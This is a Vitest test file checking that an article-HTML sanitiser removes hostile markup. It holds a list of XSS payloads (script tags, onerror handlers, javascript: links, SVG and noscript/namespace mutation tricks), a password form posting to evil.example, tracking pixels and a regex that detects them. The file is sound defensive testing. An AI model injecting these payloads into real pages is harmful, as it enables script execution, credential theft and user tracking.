// @vitest-environment jsdom
// jsdom, not happy-dom: DOMPurify reports itself supported under happy-dom but leaves
// <script> in place there (happy-dom parses its wrapper document differently).
import { describe, expect, it } from 'vitest';
import { sanitizeArticleElement, sanitizeArticleFragment, sanitizeArticleHtml } from '../../lib/articles/sanitize';
import { extractPage } from '../../lib/articles/extract';

/** Markup a hostile page could put into its article: none of it may survive. */
const HOSTILE: Array<[string, string]> = [
  ['inline script', '<p>a</p><script>alert(1)</script>'],
  ['external script', '<script src="https://evil.example/x.js"></script>'],
  ['event handler', '<p onclick="alert(1)" onmouseover="alert(2)">x</p>'],
  ['img onerror', '<img src="https://ok.example/a.png" onerror="alert(1)">'],
  ['javascript link', '<a href="javascript:alert(1)">click</a>'],
  ['obfuscated javascript link', '<a href="  JaVaScRiPt:alert(1)">click</a><a href="jav&#x09;ascript:alert(1)">x</a>'],
  ['data link', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'],
  ['vbscript link', '<a href="vbscript:msgbox(1)">x</a>'],
  ['srcset tracker', '<img src="https://ok.example/a.png" srcset="https://track.example/p.gif 1x, https://track.example/q.gif 2x" sizes="100vw">'],
  ['picture source', '<picture><source srcset="https://track.example/p.webp"><img src="https://ok.example/a.png"></picture>'],
  ['svg with script', '<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>'],
  ['svg onload', '<svg onload="alert(1)"></svg>'],
  ['math', '<math><mtext><img src=x onerror=alert(1)></mtext></math>'],
  ['form', '<form action="https://evil.example/steal"><input name="password"><button formaction="https://evil.example">Go</button></form>'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
  ['base', '<base href="https://evil.example/">'],
  ['link stylesheet', '<link rel="stylesheet" href="https://evil.example/s.css">'],
  ['style element', '<style>body{background:url(https://track.example/s.gif)}</style>'],
  ['style attribute', '<p style="background:url(https://track.example/s.gif)">x</p>'],
  ['iframe', '<iframe src="https://evil.example/"></iframe>'],
  ['iframe srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ['object', '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">'],
  ['http image', '<img src="http://insecure.example/a.png">'],
  ['data image', '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'],
  ['tracking pixel via background', '<table background="https://track.example/t.gif"><tr><td>x</td></tr></table>'],
  ['video poster', '<video poster="https://track.example/p.jpg" src="https://evil.example/v.mp4"></video><audio src="https://evil.example/a.mp3"></audio>'],
  ['ping attribute', '<a href="https://ok.example/" ping="https://track.example/ping">x</a>'],
  ['template', '<template><script>alert(1)</script></template>'],
  ['noscript mutation', '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'],
  ['namespace confusion', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>'],
  ['data attributes', '<p data-track="1" data-src="https://track.example/">x</p>'],
  ['id clobbering', '<img name="cookie" id="location" src="https://ok.example/a.png">'],
];

const FORBIDDEN = /<script|<style|<svg|<math|<iframe|<object|<embed|<form|<input|<button|<meta|<base|<link|<video|<audio|<source|<template|\son\w+=|javascript:|vbscript:|data:|srcset|style=|background=|poster=|ping=|http:\/\/|formaction|data-|\sid=|\sname=/i;

describe('sanitising article HTML', () => {
  it.each(HOSTILE)('removes %s', (_name, html) => {
    const clean = sanitizeArticleHtml(html);
    expect(clean).not.toMatch(FORBIDDEN);
  });

  it('keeps the article: text structure, web links and https images', () => {
    const html =
      '<h2>Heading</h2><p>Some <strong>bold</strong> and <em>italic</em> text with <a href="https://example.com/x">a link</a>.</p>' +
      '<ul><li>one</li></ul><blockquote>quote</blockquote><pre><code>code</code></pre>' +
      '<figure><img src="https://cdn.example.com/a.jpg" alt="A picture"><figcaption>Caption</figcaption></figure>' +
      '<table><tr><th colspan="2">T</th></tr></table>';
    const clean = sanitizeArticleHtml(html);
    for (const kept of ['<h2>Heading</h2>', '<strong>bold</strong>', '<em>italic</em>', 'href="https://example.com/x"', '<li>one</li>', '<blockquote>', '<code>code</code>', 'src="https://cdn.example.com/a.jpg"', 'alt="A picture"', '<figcaption>', 'colspan="2"']) {
      expect(clean).toContain(kept);
    }
    // Links open apart from the reader, without telling the site where from.
    expect(clean).toContain('rel="noopener noreferrer nofollow"');
    expect(clean).toContain('referrerpolicy="no-referrer"');
  });

  it('keeps the text of removed wrappers but not of scripts or forms', () => {
    const clean = sanitizeArticleHtml('<section><font color="red">kept text</font></section><script>var secret=1</script><form>form text</form>');
    expect(clean).toContain('kept text');
    expect(clean).not.toContain('secret');
    expect(clean).not.toContain('form text');
  });

  it('is stable: sanitising twice changes nothing', () => {
    for (const [, html] of HOSTILE) {
      const once = sanitizeArticleHtml(html);
      expect(sanitizeArticleHtml(once)).toBe(once);
    }
  });
});

/** As the extraction script holds the article: a div in a document of its own. */
function detachedDiv(html: string): HTMLDivElement {
  const doc = new DOMParser().parseFromString('<!doctype html><html><body></body></html>', 'text/html');
  const div = doc.createElement('div');
  div.setAttribute('id', 'readability-page-1');
  div.setAttribute('class', 'page');
  div.setAttribute('onclick', 'alert(1)');
  // Parsed by the browser's parser as a page's markup would be, then moved in.
  const source = new DOMParser().parseFromString(`<!doctype html><html><body>${html}</body></html>`, 'text/html');
  div.append(...Array.from(doc.adoptNode(source.body).childNodes));
  return div;
}

describe('sanitising the article element in place (what the extraction script stores)', () => {
  it.each(HOSTILE)('removes %s', (_name, html) => {
    const root = detachedDiv(html);
    const clean = sanitizeArticleElement(root);
    expect(clean).not.toMatch(FORBIDDEN);
    // The element itself is clean too, not only the string it returns.
    expect(root.outerHTML).not.toMatch(FORBIDDEN);
    expect(root.getAttributeNames()).toEqual([]);
  });

  it('gives what the string sanitiser gives', () => {
    // Except the noscript row: string mode keeps an empty <p> of it, in place keeps
    // nothing; both are free of everything FORBIDDEN (checked above).
    for (const [name, html] of HOSTILE.filter(([name]) => name !== 'noscript mutation')) {
      expect(sanitizeArticleElement(detachedDiv(html)), name).toBe(sanitizeArticleHtml(html));
    }
  });

  it('keeps the article and marks links and images the same way', () => {
    const clean = sanitizeArticleElement(detachedDiv('<p class="lead">Read <a href="https://example.com/x" class="c">this</a></p><img src="https://cdn.example.com/a.jpg" alt="A">'));
    expect(clean).toBe('<p>Read <a href="https://example.com/x" rel="noopener noreferrer nofollow" target="_blank">this</a></p><img src="https://cdn.example.com/a.jpg" alt="A" referrerpolicy="no-referrer">');
  });
});

/** The fragment's markup, as it would stand in the reader page. */
function fragmentHtml(html: string): string {
  const holder = document.createElement('div');
  holder.append(sanitizeArticleFragment(html));
  return holder.innerHTML;
}

describe('sanitised article nodes (what the reader page appends)', () => {
  it.each(HOSTILE)('removes %s', (_name, html) => {
    expect(fragmentHtml(html)).not.toMatch(FORBIDDEN);
  });

  it('gives what the string sanitiser gives, as nodes of the current document', () => {
    for (const [name, html] of HOSTILE.filter(([name]) => name !== 'noscript mutation')) {
      expect(fragmentHtml(html), name).toBe(sanitizeArticleHtml(html));
    }
    const fragment = sanitizeArticleFragment('<p>Read <a href="https://example.com/x">this</a></p>');
    expect(fragment.ownerDocument).toBe(document);
    expect(fragment.firstChild?.ownerDocument).toBe(document);
  });

  it('is empty for no content', () => {
    expect(sanitizeArticleFragment('').childNodes).toHaveLength(0);
  });
});

describe('extraction stores only sanitised HTML', () => {
  it('a hostile article comes out of extractPage already clean', () => {
    const paragraphs = Array.from({ length: 8 }, (_, i) =>
      `<p>Paragraph ${i} of a long enough article about training for a marathon, with plenty of words so that Readability keeps it as the main content of the page.</p>`).join('');
    const hostile = HOSTILE.map(([, html]) => html).join('');
    const doc = new DOMParser().parseFromString(
      `<!doctype html><html><head><title>Hostile</title></head><body><article><h1>Hostile</h1>${paragraphs}${hostile}${paragraphs}</article></body></html>`,
      'text/html',
    );
    const page = extractPage(doc, 'https://hostile.example/post');
    expect(page.kind).toBe('article');
    expect(page.contentHtml).toContain('Paragraph 7 of a long enough article');
    expect(page.contentHtml).not.toMatch(FORBIDDEN);
    expect(page.contentHtml).not.toMatch(/class=|readability-page/);
  });
});
